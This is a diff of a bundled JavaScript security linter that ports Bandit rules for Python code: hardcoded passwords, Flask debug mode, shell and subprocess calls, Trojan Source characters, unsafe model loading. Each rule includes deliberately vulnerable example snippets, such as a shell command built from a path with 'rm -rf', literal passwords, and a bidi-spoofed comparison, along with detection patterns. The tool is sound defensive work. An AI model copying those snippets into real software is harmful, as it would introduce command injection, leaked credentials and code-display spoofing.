-                        const nameA = targetName(a);
-                        if (nameA && isPasswordName(nameA) && literal(b))
-                            report(b, nameA, 'compared with');
-                        const nameB = targetName(b);
-                        if (nameB && isPasswordName(nameB) && literal(a))
-                            report(a, nameB, 'compared with');
-                    }
-                },
-                pair(node) {
-                    const key = node.childForFieldName('key');
-                    const value = node.childForFieldName('value');
-                    const name = key ? literal(key) : undefined;
-                    if (name && value && isPasswordName(name) && literal(value))
-                        report(value, name, 'stored under the key');
-                },
-            };
-        },
-    };
-})();
-exports.hardcodedPasswordFuncArg = (() => {
-    const meta = spec('argument');
-    return {
-        meta,
-        create(context) {
-            return {
-                keyword_argument(node) {
-                    const name = node.childForFieldName('name')?.text;
-                    if (!name || !isPasswordName(name))
-                        return;
-                    // `node.parent` costs the node's depth: asked only of candidates.
-                    if (node.parent?.type !== 'argument_list' || node.parent.parent?.type !== 'call')
-                        return;
-                    if (literal(node.childForFieldName('value'))) {
-                        context.report(meta, node, `possible hardcoded password: a string literal is passed as \`${name}=\``);
-                    }
-                },
-            };
-        },
-    };
-})();
-exports.hardcodedPasswordDefault = (() => {
-    const meta = spec('default');
-    return {
-        meta,
-        create(context) {
-            const check = (node) => {
+
+
+/***/ }),
+
+/***/ 7640:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.flaskDebugTrue = void 0;
+/** Bandit B201 / Ruff S201: a Flask application run with `debug=True`, in a file that imports flask. */
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+exports.flaskDebugTrue = (0, common_1.securityRule)({
+    id: 'flask-debug-true', name: 'FlaskDebugTrue', bandit: 'B201', ruff: 'S201', severity: 'HIGH', confidence: 'MEDIUM',
+    category: 'configuration', cwe: [94],
+    short: 'Flask app run with debug=True (interactive debugger exposed)',
+    full: 'An app.run(..., debug=True) call. Flask\'s debug mode serves the Werkzeug debugger, which lets anyone who reaches an error page run Python code on the server.',
+    title: 'A Flask application run in debug mode',
+    why: 'With `debug=True`, an unhandled error shows the Werkzeug interactive debugger, a Python console in the browser. Anyone who can reach the server and trigger an error can run code on it.',
+    example: 'from flask import Flask\n\napp = Flask(__name__)\napp.run(host="0.0.0.0", debug=True)',
+    fix: 'Leave debug off in code (`app.run()`), and turn it on only in development with `flask run --debug` or an environment variable.',
+    fixed: 'from flask import Flask\n\napp = Flask(__name__)\napp.run()',
+    notReported: ['Files that do not import `flask` (as in Bandit).', '`debug=` with a value that is not a constant true (a setting read at run time).', 'Calls to a method named `run` with no `debug=` keyword.'],
+    uses: [calls_1.calls],
+    create(context) {
+        const imports = (0, common_1.importsModule)('flask');
+        return {
+            ...imports.visitor,
+            end() {
+                if (!imports.seen())
+                    return;
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'run')
+                        continue;
+                    const debug = (0, arguments_1.keywordValue)(call.node, 'debug');
+                    if (debug && (0, literals_1.unparenthesize)(debug).type === 'true')
+                        context.report(call.callee, '`debug=True` exposes the Werkzeug debugger, which runs code for whoever triggers an error');
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 4116:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.groupExecutableFilePermissions = void 0;
+/** Bandit B103 / Ruff S103, medium severity: `os.chmod` with a constant mode that makes the file group-executable. */
+const common_1 = __nccwpck_require__(8925);
+const file_modes_1 = __nccwpck_require__(7927);
+exports.groupExecutableFilePermissions = (0, common_1.securityRule)({
+    ...file_modes_1.CHMOD_SPEC,
+    id: 'group-executable-file-permissions', name: 'GroupExecutableFilePermissions', severity: 'MEDIUM',
+    short: 'os.chmod makes a file executable by its group',
+    full: 'os.chmod is called with a constant mode that lets the file\'s group execute it, wider than most files need.',
+    title: 'A group-executable file mode',
+    why: 'A mode with the "group execute" bit (`0o010`) lets every member of the file\'s group run it. For data files and most scripts this is wider than needed, and it often comes with other broad bits.',
+    example: 'import os\n\nos.chmod(path, 0o750)',
+    fixed: 'import os\n\nos.chmod(path, 0o700)',
+    notReported: [...file_modes_1.CHMOD_NOT_REPORTED, 'Modes without the group-execute bit (world-writable modes are `world-writable-file-permissions`).'],
+    // A world-writable mode is reported by the high-severity rule only.
+    ...(0, file_modes_1.chmodModes)((mode) => (0, file_modes_1.groupExecutable)(mode) && !(0, file_modes_1.worldWritable)(mode), 'executable by the group'),
+});
+
+
+/***/ }),
+
+/***/ 5718:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.hardcodedPasswordDefault = void 0;
+const common_1 = __nccwpck_require__(8925);
+const password_names_1 = __nccwpck_require__(9852);
+exports.hardcodedPasswordDefault = (0, common_1.securityRule)({
+    ...password_names_1.PASSWORD_SPEC,
+    id: 'hardcoded-password-default', name: 'HardcodedPasswordDefault', bandit: 'B107', ruff: 'S107',
+    short: 'possible hardcoded password as a parameter default',
+    full: 'A function parameter whose name suggests a password, token or secret has a string literal default: callers that omit it silently use a credential written in the source.',
+    title: 'A hardcoded password as a default argument',
+    why: 'A default value for a `password` or `token` parameter is a credential in the source code, and every caller that forgets the argument uses it without noticing.',
+    example: 'def connect(user, password="admin"):\n    ...',
+    fixed: 'def connect(user, password):\n    ...',
+    create(context) {
+        const check = (node) => {
+            const name = node.childForFieldName('name')?.text;
+            const value = node.childForFieldName('value');
+            if (name && value && (0, password_names_1.isPasswordName)(name) && (0, password_names_1.literal)(value)) {
+                context.report(value, `possible hardcoded password: the parameter \`${name}\` has a string literal default`);
+            }
+        };
+        return { default_parameter: check, typed_default_parameter: check };
+    },
+});
+
+
+/***/ }),
+
+/***/ 5040:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.hardcodedPasswordFuncArg = void 0;
+const common_1 = __nccwpck_require__(8925);
+const password_names_1 = __nccwpck_require__(9852);
+exports.hardcodedPasswordFuncArg = (0, common_1.securityRule)({
+    ...password_names_1.PASSWORD_SPEC,
+    id: 'hardcoded-password-func-arg', name: 'HardcodedPasswordFuncArg', bandit: 'B106', ruff: 'S106',
+    short: 'possible hardcoded password passed as a keyword argument',
+    full: 'A call passes a string literal to a keyword argument whose name suggests a password, token or secret (password="...", api_token="...").',
+    title: 'A hardcoded password passed to a function',
+    why: 'A literal passed as `password=` or `token=` is a credential written in the source, visible to everyone who can read the code and its history.',
+    example: 'conn = connect(host="db", user="app", password="hunter2")',
+    fixed: 'import os\n\nconn = connect(host="db", user="app", password=os.environ["DB_PASSWORD"])',
+    create(context) {
+        return {
+            keyword_argument(node) {
                 const name = node.childForFieldName('name')?.text;
-                const value = node.childForFieldName('value');
-                if (name && value && isPasswordName(name) && literal(value)) {
-                    context.report(meta, value, `possible hardcoded password: the parameter \`${name}\` has a string literal default`);
+                if (!name || !(0, password_names_1.isPasswordName)(name))
+                    return;
+                // `node.parent` costs the node's depth: asked only of candidates.
+                if (node.parent?.type !== 'argument_list' || node.parent.parent?.type !== 'call')
+                    return;
+                if ((0, password_names_1.literal)(node.childForFieldName('value'))) {
+                    context.report(node, `possible hardcoded password: a string literal is passed as \`${name}=\``);
                 }
-            };
-            return { default_parameter: check, typed_default_parameter: check };
-        },
-    };
-})();
+            },
+        };
+    },
+});
 
 
 /***/ }),
 
-/***/ 6874:
+/***/ 6258:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.SECURITY_RULES = void 0;
-const blacklist_calls_1 = __nccwpck_require__(5113);
-const blacklist_imports_1 = __nccwpck_require__(1306);
-const file_permissions_1 = __nccwpck_require__(6667);
-const general_1 = __nccwpck_require__(9242);
-const hardcoded_password_1 = __nccwpck_require__(7090);
-const misc_1 = __nccwpck_require__(392);
-const process_start_1 = __nccwpck_require__(5246);
-const sql_injection_1 = __nccwpck_require__(4950);
-const ssh_snmp_1 = __nccwpck_require__(485);
-const subprocess_shell_true_1 = __nccwpck_require__(5565);
-const templates_xss_1 = __nccwpck_require__(1906);
-const tls_1 = __nccwpck_require__(7003);
-const weak_cryptographic_key_1 = __nccwpck_require__(8048);
-const yaml_unsafe_load_1 = __nccwpck_require__(9307);
-/** Every security rule (Bandit's catalogue), in Bandit id order. Add a rule here when its module is written. */
-exports.SECURITY_RULES = [
-    // B1xx
-    general_1.assertUsed,
-    general_1.execUsed,
-    file_permissions_1.worldWritableFilePermissions,
-    file_permissions_1.groupExecutableFilePermissions,
-    general_1.bindAllInterfaces,
-    hardcoded_password_1.hardcodedPasswordString,
-    hardcoded_password_1.hardcodedPasswordFuncArg,
-    hardcoded_password_1.hardcodedPasswordDefault,
-    general_1.hardcodedTmpDirectory,
-    general_1.tryExceptPass,
-    general_1.tryExceptContinue,
-    general_1.requestWithoutTimeout,
-    // B2xx
-    general_1.flaskDebugTrue,
-    general_1.tarfileUnsafeMembers,
-    // B3xx, B4xx
-    ...blacklist_calls_1.BLACKLIST_CALL_RULES,
-    ...blacklist_imports_1.BLACKLIST_IMPORT_RULES,
-    // B5xx
-    tls_1.requestWithoutCertValidation,
-    tls_1.sslInsecureVersion,
-    tls_1.sslInsecureVersionDefault,
-    tls_1.sslWithNoVersion,
-    weak_cryptographic_key_1.weakCryptographicKey,
-    weak_cryptographic_key_1.shortCryptographicKey,
-    yaml_unsafe_load_1.yamlUnsafeLoad,
-    ssh_snmp_1.sshNoHostKeyVerification,
-    ssh_snmp_1.snmpInsecureVersion,
-    ssh_snmp_1.snmpWeakCryptography,
-    // B6xx
-    process_start_1.paramikoExecCommand,
-    subprocess_shell_true_1.subprocessShellTrue,
-    subprocess_shell_true_1.subprocessShellTrueLiteral,
-    process_start_1.subprocessWithoutShell,
-    process_start_1.callWithShellTrue,
-    process_start_1.startProcessWithShell,
-    process_start_1.startProcessWithShellLiteral,
-    process_start_1.startProcessWithNoShell,
-    process_start_1.startProcessWithPartialPath,
-    sql_injection_1.hardcodedSqlExpression,
-    process_start_1.unixCommandWildcardInjection,
-    sql_injection_1.djangoExtra,
-    sql_injection_1.djangoRawSql,
-    misc_1.loggingConfigInsecureListen,
-    misc_1.trojanSource,
-    misc_1.pytorchLoad,
-    misc_1.huggingfaceUnsafeDownload,
-    // B7xx
-    templates_xss_1.jinja2AutoescapeFalse,
-    templates_xss_1.makoTemplates,
-    templates_xss_1.djangoMarkSafe,
-    templates_xss_1.markupsafeMarkupXss,
-];
-
-
-/***/ }),
-
-/***/ 392:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.huggingfaceUnsafeDownload = exports.pytorchLoad = exports.trojanSource = exports.loggingConfigInsecureListen = void 0;
-const calls_1 = __nccwpck_require__(4463);
+exports.hardcodedPasswordString = void 0;
 const common_1 = __nccwpck_require__(8925);
-exports.loggingConfigInsecureListen = (0, common_1.callRule)({
-    id: 'logging-config-insecure-listen', name: 'LoggingConfigInsecureListen', bandit: 'B612', ruff: 'S612', severity: 'MEDIUM', confidence: 'HIGH',
-    category: 'injection', cwe: [94], functions: ['logging.config.listen'],
-    check: (call) => !(0, calls_1.keywordArgument)(call.node, 'verify'),
-    message: (call) => `${(0, common_1.callName)(call)} without \`verify=\` accepts logging configurations from anyone who can connect, and configurations can run code`,
-    short: 'logging.config.listen without a verify function',
-    full: 'logging.config.listen opens a socket that accepts logging configurations; configurations can name classes to instantiate, so without verify= anyone who can connect can run code.',
-    title: '`logging.config.listen` without verification',
-    why: 'The listener applies any configuration it receives with `dictConfig`/`fileConfig`, which import and call the classes it names. Without a `verify` callable, whoever reaches the port runs code in the process.',
-    example: 'import logging.config\n\nthread = logging.config.listen(9999)',
-    fix: 'Pass `verify=` a function that checks a signature (or rejects everything unexpected), and bind to a trusted interface only.',
-    notReported: ['Calls that pass `verify=` as a keyword. A `verify` passed positionally is still reported, as Bandit and Ruff do: write it as a keyword.'],
-});
-/** Bidirectional control characters used in Trojan Source attacks. */
-const BIDI = /[\u202a-\u202e\u2066-\u2069\u200f]/g;
-exports.trojanSource = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'trojan-source', name: 'TrojanSource', bandit: 'B613', severity: 'HIGH', confidence: 'MEDIUM',
-        category: 'injection', cwe: [838],
-        short: 'bidirectional Unicode control character in source (Trojan Source)',
-        full: 'The file contains a Unicode bidirectional control character (LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI, PDI or RLM). Such characters reorder how code is displayed, so the code a reviewer reads can differ from the code that runs.',
-        title: 'A bidirectional control character (Trojan Source)',
-        why: 'Bidirectional overrides make editors and review tools show text in a different order than the compiler reads it. A comment can appear to close before code that is in fact inside it, or a string can seem to end early (CVE-2021-42574).',
-        example: '# the line looks like a harmless comparison, but an RLO character reverses part of it\nif access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":',
-        fix: 'Remove the character; if right-to-left text is needed in a string, write it with `\\u` escapes.',
-        notReported: ['Characters written as escapes (`"\\u202e"`): they are not in the file\'s text.', 'Other invisible characters (zero-width spaces, homoglyphs).'],
-    });
-    return {
-        meta,
-        create(context) {
-            return {
-                end() {
-                    const text = context.text;
-                    for (const match of text.matchAll(BIDI)) {
-                        const index = match.index;
-                        const before = text.lastIndexOf('\n', index - 1);
-                        const row = (text.slice(0, index).match(/\n/g) ?? []).length;
-                        const column = index - before - 1;
-                        const code = match[0].codePointAt(0).toString(16).toUpperCase().padStart(4, '0');
-                        context.reportRange(meta, { row, column }, { row, column: column + 1 }, `bidirectional control character U+${code}: the code shown may differ from the code that runs`);
-                    }
-                },
-            };
-        },
-    };
-})();
-exports.pytorchLoad = (0, common_1.callRule)({
-    id: 'pytorch-unsafe-load', name: 'PytorchUnsafeLoad', bandit: 'B614', severity: 'MEDIUM', confidence: 'HIGH',
-    category: 'deserialization', cwe: [502], functions: ['torch.load'],
-    check: (call) => {
-        const weightsOnly = (0, calls_1.keywordValue)(call.node, 'weights_only');
-        return !weightsOnly || (0, calls_1.truthiness)(weightsOnly) !== true;
+const password_names_1 = __nccwpck_require__(9852);
+exports.hardcodedPasswordString = (0, common_1.securityRule)({
+    ...password_names_1.PASSWORD_SPEC,
+    id: 'hardcoded-password-string', name: 'HardcodedPasswordString', bandit: 'B105', ruff: 'S105',
+    short: 'possible hardcoded password assigned to or compared with a password-like name',
+    full: 'A string literal is assigned to, or compared with, a variable, attribute, dictionary key or subscript whose name suggests a password, token or secret. Secrets in source code are readable by everyone with access to the repository and its history.',
+    title: 'A hardcoded password string',
+    why: 'A secret written in the source is shared with everyone who can read the repository, its forks, its history and every built artifact, and it cannot be rotated without a code change. Comparing input against a literal password is the same secret in another form.',
+    example: 'DB_PASSWORD = "hunter2"\n\nif token == "s3cr3t-admin":\n    grant()',
+    fixed: 'import hmac, os\n\nDB_PASSWORD = os.environ["DB_PASSWORD"]\n\nif hmac.compare_digest(token, os.environ["ADMIN_TOKEN"]):\n    grant()',
+    create(context) {
+        const report = (value, name, how) => {
+            context.report(value, `possible hardcoded password: a string literal is ${how} \`${name}\``);
+        };
+        return {
+            assignment(node) {
+                // The target's name first: it is cheaper to read than the value, and rarely a candidate.
+                const left = node.childForFieldName('left');
+                const name = left ? (0, password_names_1.targetName)(left) : undefined;
+                if (!name || !(0, password_names_1.isPasswordName)(name))
+                    return;
+                // Chained assignment `a = b = "x"`: the right side is itself an assignment, handled there.
+                const right = node.childForFieldName('right');
+                if (right && (0, password_names_1.literal)(right))
+                    report(right, name, 'assigned to');
+            },
+            comparison_operator(node) {
+                const operands = node.namedChildren.filter((c) => !!c && c.type !== 'comment');
+                for (let i = 0; i + 1 < operands.length; i++) {
+                    const [a, b] = [operands[i], operands[i + 1]];
+                    const nameA = (0, password_names_1.targetName)(a);
+                    if (nameA && (0, password_names_1.isPasswordName)(nameA) && (0, password_names_1.literal)(b))
+                        report(b, nameA, 'compared with');
+                    const nameB = (0, password_names_1.targetName)(b);
+                    if (nameB && (0, password_names_1.isPasswordName)(nameB) && (0, password_names_1.literal)(a))
+                        report(a, nameB, 'compared with');
+                }
+            },
+            pair(node) {
+                const key = node.childForFieldName('key');
+                const value = node.childForFieldName('value');
+                const name = key ? (0, password_names_1.literal)(key) : undefined;
+                if (name && value && (0, password_names_1.isPasswordName)(name) && (0, password_names_1.literal)(value))
+                    report(value, name, 'stored under the key');
+            },
+        };
     },
-    message: (call) => `${(0, common_1.callName)(call)} without \`weights_only=True\` unpickles the file, which can run arbitrary code`,
-    short: 'torch.load without weights_only=True (unpickles arbitrary objects)',
-    full: 'torch.load uses pickle; without weights_only=True a model file from outside the program can run code when it is loaded.',
-    title: '`torch.load` without `weights_only=True`',
-    why: 'PyTorch checkpoints are pickles. Unless `weights_only=True` restricts what may be built, loading a downloaded or user-supplied checkpoint runs whatever code its author put in it.',
-    example: 'import torch\n\nmodel = torch.load("model.pt")',
-    fix: 'Pass `weights_only=True` (the default since PyTorch 2.6), or use the `safetensors` format.',
-    notReported: ['`weights_only=` with a true constant.'],
 });
-const HF_FUNCTIONS = ['huggingface_hub.hf_hub_download', 'huggingface_hub.snapshot_download', 'datasets.load_dataset'];
-/** True for a revision that names a fixed commit (7 to 64 hex digits). */
-function pinned(node) {
-    if (!node)
-        return false;
-    const value = (0, calls_1.stringLiteralValue)(node);
-    return value !== undefined && /^[0-9a-f]{7,64}$/i.test(value);
-}
-exports.huggingfaceUnsafeDownload = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'huggingface-unpinned-download', name: 'HuggingfaceUnpinnedDownload', bandit: 'B615', severity: 'MEDIUM', confidence: 'HIGH',
-        category: 'supply-chain', cwe: [494],
-        short: 'Hugging Face download not pinned to a commit revision',
-        full: 'A model or dataset is downloaded from the Hugging Face Hub (from_pretrained, hf_hub_download, snapshot_download, load_dataset) without revision= set to a commit hash, so whatever the repository holds at run time is used.',
-        title: 'An unpinned Hugging Face download',
-        why: 'Without a pinned `revision`, every run downloads the repository\'s current state. If the repository is changed or taken over, the program loads the new files, which for pickle-based models means running their code.',
-        example: 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/model")',
-        fix: 'Pin a commit: `AutoModel.from_pretrained("org/model", revision="<commit sha>")`, and prefer safetensors weights.',
-        notReported: ['`revision=` set to a literal commit hash (7 to 64 hexadecimal digits).', 'Files that import none of `transformers`, `huggingface_hub` and `datasets`.', 'Local paths are not told apart from Hub names: a `from_pretrained("./dir")` is reported.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            let imports = false;
-            const imported = (node) => {
-                if (/\b(transformers|huggingface_hub|datasets)\b/.test(node.text))
-                    imports = true;
-            };
-            return {
-                import_statement: imported,
-                import_from_statement: imported,
-                end() {
-                    if (!imports)
-                        return;
-                    for (const call of context.analysis('calls').calls) {
-                        const isHub = call.assumedName !== undefined && HF_FUNCTIONS.includes(call.assumedName);
-                        const isPretrained = call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'from_pretrained';
-                        if (!isHub && !isPretrained)
-                            continue;
-                        if (pinned((0, calls_1.keywordValue)(call.node, 'revision')))
-                            continue;
-                        context.report(meta, call.callee, `${(0, common_1.callName)(call)} is not pinned to a commit with \`revision=\`: the files used can change under the program`);
-                    }
-                },
-            };
-        },
-    };
-})();
 
 
 /***/ }),
 
-/***/ 5246:
+/***/ 4826:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.unixCommandWildcardInjection = exports.startProcessWithPartialPath = exports.startProcessWithNoShell = exports.startProcessWithShellLiteral = exports.startProcessWithShell = exports.callWithShellTrue = exports.subprocessWithoutShell = exports.paramikoExecCommand = exports.NO_SHELL_FUNCTIONS = exports.SHELL_FUNCTIONS = void 0;
-const calls_1 = __nccwpck_require__(4463);
-const common_1 = __nccwpck_require__(8925);
-const subprocess_shell_true_1 = __nccwpck_require__(5565);
-exports.SHELL_FUNCTIONS = [
-    'os.system', ...(0, common_1.qualify)('os', 'popen popen2 popen3 popen4'),
-    ...(0, common_1.qualify)('popen2', 'popen2 popen3 popen4 Popen3 Popen4'),
-    ...(0, common_1.qualify)('commands', 'getoutput getstatusoutput'),
-    ...(0, common_1.qualify)('subprocess', 'getoutput getstatusoutput'),
-];
-exports.NO_SHELL_FUNCTIONS = [
-    ...(0, common_1.qualify)('os', 'execl execle execlp execlpe execv execve execvp execvpe spawnl spawnle spawnlp spawnlpe spawnv spawnve spawnvp spawnvpe startfile'),
-];
-exports.paramikoExecCommand = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'paramiko-exec-command', name: 'ParamikoExecCommand', bandit: 'B601', ruff: 'S601', severity: 'MEDIUM', confidence: 'MEDIUM',
-        category: 'injection', cwe: [78],
-        short: 'paramiko exec_command runs a command through the remote shell',
-        full: 'A paramiko exec_command call: the command string is interpreted by the remote host\'s shell, so any part built from outside input can inject commands there.',
-        title: 'A command run through paramiko\'s `exec_command`',
-        why: '`exec_command` sends a string to the SSH server, which runs it with the user\'s login shell. Values pasted into it are parsed by that shell: `;`, `|` and `$(...)` in them run commands on the remote host.',
-        example: 'import paramiko\n\nclient.exec_command(f"ls {directory}")',
-        fix: 'Quote every variable part with `shlex.quote()`, or avoid the shell (SFTP for file operations).',
-        notReported: ['`exec_command` calls in files that do not import `paramiko`.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            let importsParamiko = false;
-            const check = (node) => {
-                if (/\bparamiko\b/.test(node.text))
-                    importsParamiko = true;
-            };
-            return {
-                import_statement: check,
-                import_from_statement: check,
-                end() {
-                    if (!importsParamiko)
-                        return;
-                    for (const call of context.analysis('calls').calls) {
-                        if (call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'exec_command') {
-                            context.report(meta, call.callee, 'paramiko `exec_command` runs its command through the remote shell; check that no part comes from outside input');
-                        }
-                    }
-                },
-            };
-        },
-    };
-})();
-/** A literal command, or a list/tuple of literals and `sys.executable` (the running interpreter). */
-function isTrustedCommand(command, model) {
-    if ((0, subprocess_shell_true_1.isLiteralCommand)(command))
-        return true;
-    const expr = (0, calls_1.unparenthesize)(command);
-    if (expr.type !== 'list' && expr.type !== 'tuple')
-        return false;
-    return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, calls_1.stringLiteralValue)(item, { allowBytes: true }) !== undefined || model.resolveAssumed(item) === 'sys.executable');
-}
-exports.subprocessWithoutShell = (0, common_1.callRule)({
-    id: 'subprocess-without-shell', name: 'SubprocessWithoutShell', bandit: 'B603', ruff: 'S603', severity: 'LOW', confidence: 'HIGH',
-    category: 'injection', cwe: [78], functions: subprocess_shell_true_1.SUBPROCESS_FUNCTIONS,
-    check: (call, model) => {
-        const shell = (0, calls_1.keywordValue)(call.node, 'shell');
-        if (shell && (0, calls_1.truthiness)(shell) === true)
-            return false;
-        const command = (0, calls_1.argumentAt)(call.node, 0, 'args');
-        return !command || !isTrustedCommand(command, model);
-    },
-    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that what it runs cannot come from outside input`,
-    short: 'subprocess call without a shell: check the program and arguments',
-    full: 'A subprocess function is called without shell=True. No shell interprets the command, but the program and its arguments still deserve review if any come from outside the program.',
-    title: 'A `subprocess` call (no shell)',
-    why: 'Without a shell there is no shell injection, but a program name or an argument that comes from outside the program can still pick which program runs, or add options to it (`--output=/etc/...`).',
-    example: 'import subprocess\n\nsubprocess.run([tool, user_arg])',
-    fix: 'Use fixed program paths, validate arguments, and put `--` before arguments that must not be read as options. Dismiss the alert once reviewed.',
-    notReported: ['Calls with a true constant `shell=`: those are `subprocess-shell-true` (B602).', 'Commands that are literals (a string, or a list or tuple of strings, where `sys.executable` also counts as a literal): nothing outside the program reaches them (Ruff does the same; Bandit reports them). A literal program name that is not an absolute path is `start-process-with-partial-path`.'],
-});
-exports.callWithShellTrue = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'call-with-shell-true', name: 'CallWithShellTrue', bandit: 'B604', ruff: 'S604', severity: 'MEDIUM', confidence: 'LOW',
-        category: 'injection', cwe: [78],
-        short: 'shell=True passed to a function outside subprocess',
-        full: 'A function that is not one of the subprocess functions is called with shell=True; it probably runs its command through a shell, open to shell injection.',
-        title: '`shell=True` passed to some other function',
-        why: 'Wrappers around `subprocess` often forward `shell=True`. The command then goes through `/bin/sh`, with the same injection risk as calling `subprocess` with a shell directly.',
-        example: 'run_command(f"convert {name} out.png", shell=True)',
-        fix: 'Pass the command as a list and drop `shell=True`.',
-        notReported: ['`subprocess` functions: those are B602/B603.', '`shell=` values that are not a true constant.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    const skip = new Set(subprocess_shell_true_1.SUBPROCESS_FUNCTIONS);
-                    for (const call of context.analysis('calls').calls) {
-                        if (call.assumedName && skip.has(call.assumedName))
-                            continue;
-                        const shell = (0, calls_1.keywordValue)(call.node, 'shell');
-                        if (shell && (0, calls_1.truthiness)(shell) === true)
-                            context.report(meta, call.callee, `${(0, common_1.callName)(call)} is called with \`shell=True\`: the command may go through a shell`);
-                    }
-                },
-            };
-        },
-    };
-})();
-function makeShellRule(literal) {
-    return (0, common_1.callRule)({
-        id: literal ? 'start-process-with-shell-literal' : 'start-process-with-shell',
-        name: literal ? 'StartProcessWithShellLiteral' : 'StartProcessWithShell',
-        bandit: 'B605', ruff: 'S605', severity: literal ? 'LOW' : 'HIGH', confidence: 'HIGH', category: 'injection', cwe: [78],
-        functions: exports.SHELL_FUNCTIONS,
-        check: (call) => {
-            const command = (0, calls_1.argumentAt)(call.node, 0);
-            return command !== undefined && (0, subprocess_shell_true_1.isLiteralCommand)(command) === literal;
-        },
-        message: (call) => literal
-            ? `${(0, common_1.callName)(call)} runs a literal command through a shell: safe as written, but not if the command gains a variable part`
-            : `${(0, common_1.callName)(call)} runs a command built at run time through a shell: any part from outside the program can inject shell commands`,
-        short: literal ? 'a function that always uses a shell runs a literal command' : 'a function that always uses a shell runs a command built at run time',
-        full: literal
-            ? 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell. Here the command is a fixed literal, safe today but a shell injection as soon as it gains a variable part.'
-            : 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell, and here the command is built at run time: any part of it from outside the program can inject shell commands.',
-        title: literal ? 'A literal command run through a shell' : 'A command built at run time run through a shell',
-        why: 'These functions pass their string to `/bin/sh -c` (or `cmd.exe`). The shell interprets spaces, quotes, `;`, `|`, `$(...)` and wildcards in everything the string contains, so values pasted into it become shell syntax.',
-        example: literal ? 'import os\n\nos.system("make clean")' : 'import os\n\nos.system("rm -rf " + path)',
-        fix: 'Use `subprocess.run([...])` with an argument list and no shell. If a shell is needed, quote every variable part with `shlex.quote()`.',
-        notReported: ['Calls whose command is not the first positional argument (`os.popen(cmd=...)`, `*args`), as in Ruff.'],
-        note: '## Why two rules\n\nBandit grades B605 high for a command built at run time and low for a literal one. Tendril reports the two as `start-process-with-shell` (high) and `start-process-with-shell-literal` (low); both answer to `B605` and `S605`.',
-    });
-}
-exports.startProcessWithShell = makeShellRule(false);
-exports.startProcessWithShellLiteral = makeShellRule(true);
-exports.startProcessWithNoShell = (0, common_1.callRule)({
-    id: 'start-process-with-no-shell', name: 'StartProcessWithNoShell', bandit: 'B606', ruff: 'S606', severity: 'LOW', confidence: 'MEDIUM',
-    category: 'injection', cwe: [78], functions: exports.NO_SHELL_FUNCTIONS,
-    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that the program and arguments cannot come from outside input`,
-    short: 'process started without a shell (os.exec*, os.spawn*, os.startfile)',
-    full: 'os.exec*, os.spawn* or os.startfile start a program directly. There is no shell, but the program and arguments deserve review if any come from outside the program.',
-    title: 'A process started without a shell',
-    why: 'These functions run the program they are given. If its path or arguments come from outside input, that input chooses what runs; `os.startfile` opens any file with its associated application.',
-    example: 'import os\n\nos.execvp(program, [program, arg])',
-    fix: 'Use fixed program paths and validated arguments; prefer `subprocess.run([...])`. Dismiss once reviewed.',
-    notReported: ['Functions that use a shell (`start-process-with-shell`) and `subprocess` functions (`subprocess-without-shell`).'],
-});
-/** True when a literal program name is not an absolute path (`/bin/ls`, `C:\\...`, `\\\\server\\...`). */
-function isPartialPath(program) {
-    return !(program.startsWith('/') || program.startsWith('\\') || /^[A-Za-z]:[\\/]/.test(program));
-}
-exports.startProcessWithPartialPath = (0, common_1.callRule)({
-    id: 'start-process-with-partial-path', name: 'StartProcessWithPartialPath', bandit: 'B607', ruff: 'S607', severity: 'LOW', confidence: 'HIGH',
-    category: 'injection', cwe: [78], functions: [...subprocess_shell_true_1.SUBPROCESS_FUNCTIONS, ...exports.SHELL_FUNCTIONS, ...exports.NO_SHELL_FUNCTIONS],
-    check: (call) => {
-        const command = (0, calls_1.argumentAt)(call.node, 0, 'args');
-        if (!command)
-            return false;
-        const expr = (0, calls_1.unparenthesize)(command);
-        const first = expr.type === 'list' || expr.type === 'tuple' ? expr.namedChildren.find((c) => c && c.type !== 'comment') : expr;
-        if (!first)
-            return false;
-        const value = (0, calls_1.stringLiteralValue)(first);
-        return value !== undefined && value.trim() !== '' && isPartialPath(value.trim()) ? command : false;
-    },
-    message: (call) => `${(0, common_1.callName)(call)} starts a program by a partial path, found through PATH: whoever controls PATH chooses what runs`,
-    short: 'process started with a program name that is not an absolute path',
